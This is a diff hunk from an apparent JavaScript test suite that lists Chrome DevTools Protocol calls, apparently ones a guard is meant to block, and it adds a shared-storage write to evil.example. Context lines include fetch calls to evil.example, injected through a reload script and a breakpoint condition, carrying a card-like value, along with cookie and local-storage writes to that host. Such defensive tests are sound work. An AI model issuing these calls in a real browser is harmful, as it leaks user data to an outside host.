@@ -299,6 +299,7 @@ t.test('an intercepted request answered with a redirect or page elsewhere, a con
     cdp('Network.setCookies', { cookies: [{ name: 'a', value: '1', url: 'https://docs.example/' }, { name: 'd', value: '4111', url: 'https://evil.example/' }] }),
     cdp('Storage.setCookies', { cookies: [{ name: 'd', value: '4111', domain: 'evil.example' }] }),
     cdp('DOMStorage.setDOMStorageItem', { storageId: { securityOrigin: 'https://evil.example', isLocalStorage: true }, key: 'd', value: '4111' }),
+    cdp('Storage.setSharedStorageEntry', { ownerOrigin: 'https://evil.example', key: 'd', value: '4111', ignoreIfPresent: false }),
     // Code run at the next load or a breakpoint, a value handed to the page's code, a style.
     cdp('Page.reload', { scriptToEvaluateOnLoad: "fetch('https://evil.example/?d=4111')" }),
     cdp('Debugger.setBreakpointByUrl', { lineNumber: 1, url: 'https://docs.example/app.js', condition: "fetch('//evil.example/?d=4111'), false" }),
